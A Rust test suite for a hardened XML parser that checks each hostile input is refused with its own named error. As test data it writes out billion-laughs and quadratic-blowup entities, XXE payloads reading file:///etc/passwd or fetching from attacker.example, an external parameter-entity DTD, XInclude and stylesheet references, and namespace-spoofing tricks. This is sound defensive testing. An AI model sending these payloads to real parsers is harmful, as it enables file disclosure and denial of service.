#![allow(
    missing_docs,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice
)]
//! Hostile XML: every attack on the one XML door is refused with its own named error, and
//! nothing an attacker sends is ever expanded, fetched or processed.

use lienthong::doc::{Document, Element, Limits, Node, ParseError, parse};

fn p(s: &str) -> Result<Document, ParseError> {
    parse(s.as_bytes(), &Limits::default())
}

fn err(s: &str) -> ParseError {
    match p(s) {
        Ok(d) => panic!("accepted hostile input {s:?}: {d:?}"),
        Err(e) => e,
    }
}

fn err_bytes(b: &[u8]) -> ParseError {
    match parse(b, &Limits::default()) {
        Ok(d) => panic!(
            "accepted hostile input {:?}: {d:?}",
            String::from_utf8_lossy(b)
        ),
        Err(e) => e,
    }
}

// --- DTDs and entities --------------------------------------------------------------------

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            " <!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n<lolz>&lol9;</lolz>");
    assert!(matches!(err(&doc), ParseError::Doctype { .. }), "{doc}");
}

#[test]
fn quadratic_blowup_is_refused_at_the_doctype() {
    let big = "A".repeat(50_000);
    let uses = "&a;".repeat(50_000);
    let doc = format!("<!DOCTYPE r [<!ENTITY a \"{big}\">]><r>{uses}</r>");
    assert!(matches!(err(&doc), ParseError::Doctype { .. }));
    // Without the DTD the references are just undefined entities, refused at the first one.
    let e = err(&format!("<r>{uses}</r>"));
    assert!(
        matches!(&e, ParseError::UnknownEntity { name, pos } if name == "a" && *pos < 10),
        "{e:?}"
    );
}

#[test]
fn external_entities_are_refused() {
    for doc in [
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#,
        r#"<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" "http://attacker.example/x">]><r>&x;</r>"#,
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r a="&x;"/>"#,
    ] {
        assert!(matches!(err(doc), ParseError::Doctype { .. }), "{doc}");
    }
}

#[test]
fn parameter_entities_are_refused() {
    for doc in [
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>"#,
        r#"<!DOCTYPE r [<!ENTITY % a "<!ENTITY b 'x'>"> %a;]><r>&b;</r>"#,
    ] {
        assert!(matches!(err(doc), ParseError::Doctype { .. }), "{doc}");
    }
}

#[test]
fn every_kind_of_doctype_is_refused() {
    for doc in [
        r#"<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><r/>"#,
        r#"<!DOCTYPE r SYSTEM "r.dtd"><r/>"#,
        r#"<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>"#,
        r#"<!DOCTYPE r [<!ELEMENT r (#PCDATA)>]><r/>"#,
        r#"<!DOCTYPE r [<!ATTLIST r a CDATA "injected">]><r/>"#,
        r#"<!DOCTYPE r><r/>"#,
        "<?xml version=\"1.0\"?>\n<!-- c -->\n<!DOCTYPE r>\n<r/>",
        "\u{FEFF}<!doctype r><r/>",
    ] {
        assert!(matches!(err(doc), ParseError::Doctype { .. }), "{doc}");
    }
}

#[test]
fn attlist_defaults_cannot_inject_attributes() {
    // With a DTD, a default attribute value would appear in the tree (and in c14n) without
    // being in the bytes. Refusing every DOCTYPE makes that impossible.
    let e = err(r#"<!DOCTYPE r [<!ATTLIST r Id ID #IMPLIED amount CDATA "1000000">]><r/>"#);
    assert!(matches!(e, ParseError::Doctype { .. }));
}

#[test]
fn undefined_entities_are_refused() {
    for (doc, name) in [
        ("<r>&nbsp;</r>", "nbsp"),
        ("<r>&x;</r>", "x"),
        ("<r a=\"&foo;\"/>", "foo"),
        ("<r>&AMP;</r>", "AMP"),
    ] {
        let e = err(doc);
        assert!(
            matches!(&e, ParseError::UnknownEntity { name: n, .. } if n == name),
            "{doc}: {e:?}"
        );
    }
}

// --- What must not be processed -----------------------------------------------------------

#[test]
fn xinclude_is_an_ordinary_element_never_processed() {
    let doc = p(r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><xi:include href="http://attacker.example/x"><xi:fallback>fb</xi:fallback></xi:include></r>"#)
        .unwrap();
    let inc: Vec<&Element> = doc
        .root
        .children_named("http://www.w3.org/2001/XInclude", "include")
        .collect();
    assert_eq!(inc.len(), 2);
    assert!(inc[0].children.is_empty(), "{:?}", inc[0].children);
    assert_eq!(inc[0].attr("href"), Some("file:///etc/passwd"));
    let all = format!("{doc:?}");
    assert!(
        !all.contains("root:x:0:0") && !all.contains("/bin/"),
        "file contents leaked into the tree"
    );
    // The only text anywhere is the fallback's own.
    fn texts(e: &Element, out: &mut Vec<String>) {
        for c in &e.children {
            match c {
                Node::Text(t) => out.push(t.clone()),
                Node::Element(c) => texts(c, out),
                Node::Comment(_) => {}
            }
        }
    }
    let mut t = Vec::new();
    texts(&doc.root, &mut t);
    assert_eq!(t, vec!["fb".to_owned()]);
}

#[test]
fn processing_instructions_are_refused() {
    for (doc, target) in [
        (
            r#"<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?><r/>"#,
            "xml-stylesheet",
        ),
        (r#"<r><?php echo 1; ?></r>"#, "php"),
        ("<r/><?pi?>", "pi"),
        ("<?XML version=\"1.0\"?><r/>", "XML"),
    ] {
        let e = err(doc);
        assert!(
            matches!(&e, ParseError::ProcessingInstruction { target: t, .. } if t == target),
            "{doc}: {e:?}"
        );
    }
}

// --- Limits --------------------------------------------------------------------------------

#[test]
fn huge_attribute_is_refused() {
    let limit = Limits::default().max_attr_value_len;
    let ok = format!("<r a=\"{}\"/>", "x".repeat(limit));
    assert_eq!(p(&ok).unwrap().root.attr("a").unwrap().len(), limit);
    let e = err(&format!("<r a=\"{}\"/>", "x".repeat(limit + 1)));
    assert!(
        matches!(&e, ParseError::AttributeTooLong { name, limit: l } if name == "a" && *l == limit),
        "{e:?}"
    );
    // A megabyte-long value too, and a long namespace URI.
    let e = err(&format!("<r a=\"{}\"/>", "x".repeat(1 << 20)));
    assert!(matches!(e, ParseError::AttributeTooLong { .. }));
    let e = err(&format!("<r xmlns=\"urn:{}\"/>", "x".repeat(1 << 20)));
    assert!(matches!(e, ParseError::AttributeTooLong { .. }));
}

#[test]
fn ten_thousand_deep_nesting_is_refused_early() {
    let n = 10_000;
    let doc = format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
    let limit = Limits::default().max_depth;
    let e = err(&doc);
    match e {
        // Refused at the element past the limit: the rest of the input was never read, so the
        // memory held is bounded by max_depth open elements.
        ParseError::TooDeep { pos, limit: l } => {
            assert_eq!(l, limit);
            assert!(pos <= 3 * (limit as u64 + 1), "refused only at byte {pos}");
        }
        other => panic!("{other:?}"),
    }
    // Also when the nesting is unbalanced (never closed) or made of empty-looking elements.
    let e = err(&"<a>".repeat(n));
    assert!(matches!(e, ParseError::TooDeep { .. }), "{e:?}");
    // At the limit it is accepted.
    let ok = format!("{}{}", "<a>".repeat(limit), "</a>".repeat(limit));
    assert!(p(&ok).is_ok());
}

#[test]
fn a_100_mb_input_is_refused_by_size_alone() {
    let limit = Limits::default().max_bytes;
    let mut big = Vec::with_capacity(100 << 20);
    big.extend_from_slice(b"<r>");
    big.resize((100 << 20) - 4, b'A');
    big.extend_from_slice(b"</r>");
    let e = err_bytes(&big);
    assert_eq!(
        e,
        ParseError::TooLarge {
            size: 100 << 20,
            limit
        }
    );
    // The size check comes first: even bytes that are not XML at all get TooLarge.
    let garbage = vec![0xFFu8; limit + 1];
    assert!(matches!(err_bytes(&garbage), ParseError::TooLarge { .. }));
}

#[test]
fn many_attributes_are_refused() {
    let limit = Limits::default().max_attrs;
    let attrs = |n: usize| (0..n).map(|i| format!(" a{i}=\"{i}\"")).collect::<String>();
    assert!(p(&format!("<r{}/>", attrs(limit))).is_ok());
    let e = err(&format!("<r{}/>", attrs(limit + 1)));
    assert!(
        matches!(&e, ParseError::TooManyAttributes { name, limit: l } if name == "r" && *l == limit),
        "{e:?}"
    );
    // Namespace declarations count as attributes.
    let decls: String = (0..=limit)
        .map(|i| format!(" xmlns:p{i}=\"urn:{i}\""))
        .collect();
    assert!(matches!(
        err(&format!("<r{decls}/>")),
        ParseError::TooManyAttributes { .. }
    ));
    let e = err(&format!("<r{}/>", attrs(100_000)));
    assert!(matches!(e, ParseError::TooManyAttributes { .. }));
}

#[test]
fn very_long_names_are_refused() {
    let limit = Limits::default().max_name_len;
    let name = |n: usize| "n".repeat(n);
    assert!(p(&format!("<{}/>", name(limit))).is_ok());
    for doc in [
        format!("<{}/>", name(limit + 1)),
        format!("<{}/>", name(1 << 20)),
        format!("<r {}=\"1\"/>", name(limit + 1)),
        format!("<{p}:r xmlns:{p}=\"urn:a\"/>", p = name(limit)),
        format!("<r xmlns:{}=\"urn:a\"/>", name(limit)),
    ] {
        let e = err(&doc);
        assert!(
            matches!(e, ParseError::NameTooLong { limit: l, .. } if l == limit),
            "{}…: {e:?}",
            &doc[..20]
        );
    }
}

#[test]
fn too_many_elements_are_refused() {
    let limits = Limits {
        max_elements: 1_000,
        ..Limits::default()
    };
    let ok = format!("<r>{}</r>", "<a/>".repeat(999));
    assert!(parse(ok.as_bytes(), &limits).is_ok());
    let bad = format!("<r>{}</r>", "<a/>".repeat(1_000));
    assert_eq!(
        parse(bad.as_bytes(), &limits).unwrap_err(),
        ParseError::TooManyElements { limit: 1_000 }
    );
}

// --- Encodings and characters -------------------------------------------------------------

#[test]
fn invalid_utf8_is_refused() {
    for bytes in [
        &b"<r>\xFF</r>"[..],
        b"<r>\xC3</r>",             // truncated sequence
        b"<r>\xC0\xAF</r>",         // overlong '/'
        b"<r>\xED\xA0\x80</r>",     // UTF-16 surrogate
        b"<r>\xF4\x90\x80\x80</r>", // above U+10FFFF
        b"<r a=\"\xFE\"/>",
        b"<\xE9/>", // Latin-1 é
    ] {
        let e = err_bytes(bytes);
        assert!(matches!(e, ParseError::NotUtf8 { .. }), "{bytes:?}: {e:?}");
    }
}

#[test]
fn utf16_and_other_encodings_are_refused() {
    let utf16le: Vec<u8> = "\u{FEFF}<r/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let utf16be: Vec<u8> = "\u{FEFF}<r/>"
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    for bytes in [&utf16le[..], &utf16be[..]] {
        assert!(matches!(err_bytes(bytes), ParseError::NotUtf8 { .. }));
    }
    for doc in [
        r#"<?xml version="1.0" encoding="UTF-16"?><r/>"#,
        r#"<?xml version="1.0" encoding="ISO-8859-1"?><r/>"#,
        r#"<?xml version="1.0" encoding="windows-1258"?><r/>"#,
    ] {
        assert!(matches!(err(doc), ParseError::NotUtf8 { .. }), "{doc}");
    }
}

#[test]
fn nul_and_other_forbidden_characters_are_refused() {
    for (doc, code) in [
        ("<r>\0</r>", 0),
        ("<r a=\"\0\"/>", 0),
        ("<r><!--\0--></r>", 0),
        ("<r><![CDATA[\0]]></r>", 0),
        ("<r>&#0;</r>", 0),
        ("<r>&#x0;</r>", 0),
        ("<r a=\"&#0;\"/>", 0),
        ("<r>\u{1}</r>", 1),
        ("<r>&#x1B;</r>", 0x1B),
        ("<r>\u{FFFE}</r>", 0xFFFE),
        ("<r>&#xFFFF;</r>", 0xFFFF),
    ] {
        let e = err(doc);
        assert!(
            matches!(e, ParseError::InvalidChar { code: c, .. } if c == code),
            "{doc:?}: {e:?}"
        );
    }
    // Surrogates and out-of-range code points cannot be chars at all.
    for doc in [
        "<r>&#xD800;</r>",
        "<r>&#x110000;</r>",
        "<r>&#99999999999;</r>",
    ] {
        assert!(matches!(err(doc), ParseError::BadCharRef { .. }), "{doc}");
    }
}

#[test]
fn byte_order_marks_only_one_at_the_very_start() {
    // One UTF-8 BOM before anything is allowed (XML 1.0 §4.3.3) and is not content.
    let d = parse(b"\xEF\xBB\xBF<r>x</r>", &Limits::default()).unwrap();
    assert_eq!(d.root.local, "r");
    let d = parse(
        b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><r/>",
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(d.root.local, "r");
    // A second BOM, or one after the declaration, is a character outside the root.
    for bytes in [
        &b"\xEF\xBB\xBF\xEF\xBB\xBF<r/>"[..],
        b"<?xml version=\"1.0\"?>\xEF\xBB\xBF<r/>",
        b"<r/>\xEF\xBB\xBF",
    ] {
        let e = err_bytes(bytes);
        assert!(
            matches!(
                e,
                ParseError::ContentOutsideRoot { .. } | ParseError::Malformed { .. }
            ),
            "{bytes:?}: {e:?}"
        );
    }
    // UTF-16 and UTF-32 byte order marks: not UTF-8.
    for bytes in [
        &b"\xFF\xFE<\0r\0/\0>\0"[..],
        b"\xFE\xFF\0<\0r\0/\0>",
        b"\xFF\xFE\0\0<\0\0\0",
        b"\0\0\xFE\xFF\0\0\0<",
    ] {
        let e = err_bytes(bytes);
        assert!(
            matches!(
                e,
                ParseError::NotUtf8 { .. } | ParseError::InvalidChar { .. }
            ),
            "{bytes:?}: {e:?}"
        );
    }
}

#[test]
fn mixed_namespaces_resolve_by_uri_not_by_prefix() {
    // The same prefix bound to different URIs in nested scopes, the default namespace switched
    // and undeclared, and one URI under two prefixes: every name resolves to the URI in scope,
    // so a look-alike element in another namespace is never taken for the real one.
    let d = p(concat!(
        r#"<e:Envelope xmlns:e="urn:edxml" xmlns="urn:default">"#,
        r#"<e:Header xmlns:e="urn:evil"><Body/></e:Header>"#,
        r#"<x:Header xmlns:x="urn:edxml"><Body xmlns=""/></x:Header>"#,
        r#"</e:Envelope>"#
    ))
    .unwrap();
    assert_eq!(d.root.ns.as_deref(), Some("urn:edxml"));
    let kids: Vec<&Element> = d.root.elements().collect();
    assert_eq!(kids[0].ns.as_deref(), Some("urn:evil"));
    assert_eq!(kids[0].prefix.as_deref(), Some("e"));
    assert_eq!(kids[1].ns.as_deref(), Some("urn:edxml"));
    let body0 = kids[0].elements().next().unwrap();
    let body1 = kids[1].elements().next().unwrap();
    assert_eq!(body0.ns.as_deref(), Some("urn:default"));
    assert_eq!(body1.ns, None);
    assert_eq!(
        d.root.children_named("urn:edxml", "Header").count(),
        1,
        "the urn:evil Header must not be found as an edXML Header"
    );
    // Unprefixed attributes are in no namespace, whatever the default namespace is.
    let d = p(r#"<r xmlns="urn:a" xmlns:a="urn:a" id="1" a:id="2"/>"#).unwrap();
    let ns: Vec<Option<&str>> = d.root.attrs.iter().map(|a| a.ns.as_deref()).collect();
    assert_eq!(ns, vec![None, Some("urn:a")]);
}

// --- Namespaces -----------------------------------------------------------------------------

#[test]
fn unbound_prefixes_are_refused() {
    for (doc, prefix) in [
        ("<x:r/>", "x"),
        ("<r x:a=\"1\"/>", "x"),
        ("<r xmlns:x=\"urn:x\"/><!-- out of scope below -->", ""),
        ("<r><a xmlns:x=\"urn:x\"/><x:b/></r>", "x"),
    ] {
        if prefix.is_empty() {
            assert!(p(doc).is_ok());
            continue;
        }
        let e = err(doc);
        assert!(
            matches!(&e, ParseError::UnboundPrefix { prefix: pr, .. } if pr == prefix),
            "{doc}: {e:?}"
        );
    }
}

#[test]
fn namespace_redefinition_tricks_are_refused() {
    for doc in [
        r#"<r xmlns:xml="urn:evil"/>"#,
        r#"<r xmlns:xmlns="urn:evil"/>"#,
        r#"<r xmlns:xmlns="http://www.w3.org/2000/xmlns/"/>"#,
        r#"<r xmlns:p="urn:a"><p:a xmlns:p=""/></r>"#,
        r#"<r xmlns:p="http://www.w3.org/XML/1998/namespace"/>"#,
        r#"<r xmlns:p="http://www.w3.org/2000/xmlns/"/>"#,
        r#"<r xmlns="http://www.w3.org/XML/1998/namespace"/>"#,
        r#"<r xmlns="http://www.w3.org/2000/xmlns/"/>"#,
        r#"<xmlns:r/>"#,
        r#"<r xmlns:p="relative/uri"/>"#,
    ] {
        assert!(
            matches!(err(doc), ParseError::BadNamespaceDecl { .. }),
            "{doc}: {:?}",
            err(doc)
        );
    }
    // Declaring `xml` with its own URI is allowed (Namespaces in XML 1.0 §3).
    assert!(p(r#"<r xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:lang="vi"/>"#).is_ok());
}

#[test]
fn duplicate_attributes_are_refused() {
    for doc in [
        r#"<r a="1" a="2"/>"#,
        r#"<r a="1" a="1"/>"#,
        r#"<r xmlns:x="urn:x" xmlns:y="urn:x" x:a="1" y:a="2"/>"#,
        r#"<r xmlns:x="urn:x"><s xmlns:y="urn:x" x:a="1" y:a="2"/></r>"#,
        r#"<r xmlns:p="urn:a" xmlns:p="urn:b"/>"#,
        r#"<r xmlns="urn:a" xmlns="urn:a"/>"#,
        r#"<r xml:lang="vi" xml:lang="en"/>"#,
    ] {
        let e = err(doc);
        assert!(
            matches!(e, ParseError::DuplicateAttribute { .. }),
            "{doc}: {e:?}"
        );
    }
    // Same local name in different namespaces is fine.
    assert!(p(r#"<r xmlns:x="urn:x" xmlns:y="urn:y" a="0" x:a="1" y:a="2"/>"#).is_ok());
}

// --- Structure ----------------------------------------------------------------------------

#[test]
fn content_after_the_root_is_refused() {
    for doc in [
        "<r/><r/>",
        "<r/>text",
        "<r/>\n<s/>",
        "<r/><![CDATA[x]]>",
        "<r/>&amp;",
        "<r/>&#65;",
        "text<r/>",
        "<![CDATA[x]]><r/>",
    ] {
        let e = err(doc);
        assert!(
            matches!(e, ParseError::ContentOutsideRoot { .. }),
            "{doc}: {e:?}"
        );
    }
    assert_eq!(err(""), ParseError::NoRoot);
    assert_eq!(err_bytes(b"\xEF\xBB\xBF \n"), ParseError::NoRoot);
    assert_eq!(err("<!-- only a comment -->"), ParseError::NoRoot);
}

#[test]
fn malformed_structure_is_refused() {
    for doc in [
        "<r>",
        "<r><a></r>",
        "</r>",
        "<r></R>",
        "<r><!-- a -- b --></r>",
        "<r><![CDATA[x</r>",
        "<r a=\"<\"/>",
        "<r>a]]>b</r>",
        "<r a=\"1\"b=\"2\"/>",
        "<1r/>",
    ] {
        let e = err(doc);
        assert!(matches!(e, ParseError::Malformed { .. }), "{doc}: {e:?}");
    }
}

// --- Linearity sanity (no timing): inputs near the limits succeed -------------------------

/// A document of `n` elements carrying `text_len` bytes of base64-like text, like an edXML
/// envelope with attachments.
fn envelope(n: usize, text_len: usize) -> String {
    let mut s = String::with_capacity(text_len + n * 64);
    s.push_str(r#"<?xml version="1.0" encoding="UTF-8"?><edXML:Envelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">"#);
    for i in 0..n.saturating_sub(2) {
        s.push_str(&format!(
            "<edXML:Item Id=\"i{i}\" xml:lang=\"vi\">Văn phòng &amp; {i}</edXML:Item>"
        ));
    }
    s.push_str("<edXML:Attachment>");
    let chunk =
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3\n";
    while s.len() + chunk.len() < text_len {
        s.push_str(chunk);
    }
    s.push_str("</edXML:Attachment></edXML:Envelope>");
    s
}

#[test]
fn inputs_near_the_limits_succeed_at_n_and_8n() {
    let limits = Limits::default();
    // Elements: 12,500 and 100,000 (= max_elements).
    for n in [limits.max_elements / 8, limits.max_elements] {
        let doc = envelope(n, 0);
        let d = p(&doc).unwrap();
        assert_eq!(d.root.count_elements(), n);
    }
    // Bytes: 7 MiB and 56 MiB of attachment text under the 64 MiB limit.
    for size in [7 << 20, 56 << 20] {
        let doc = envelope(10, size);
        assert!(doc.len() <= limits.max_bytes);
        let d = p(&doc).unwrap();
        let att = d.root.elements().last().unwrap();
        assert!(att.text().len() + 10_000 > size);
    }
    // Width: max_attrs attributes of max_attr_value_len bytes each, on many elements.
    let attrs: String = (0..limits.max_attrs)
        .map(|i| format!(" a{i}=\"{}\"", "v".repeat(limits.max_attr_value_len)))
        .collect();
    for n in [8, 64] {
        let doc = format!("<r>{}</r>", format!("<e{attrs}/>").repeat(n));
        let d = p(&doc).unwrap();
        assert_eq!(d.root.count_elements(), n + 1);
    }
    // Depth: max_depth nested elements, repeated side by side.
    let deep = format!(
        "{}{}",
        "<a>".repeat(limits.max_depth - 1),
        "</a>".repeat(limits.max_depth - 1)
    );
    for n in [100, 800] {
        let doc = format!("<r>{}</r>", deep.repeat(n));
        assert!(p(&doc).is_ok());
    }
}
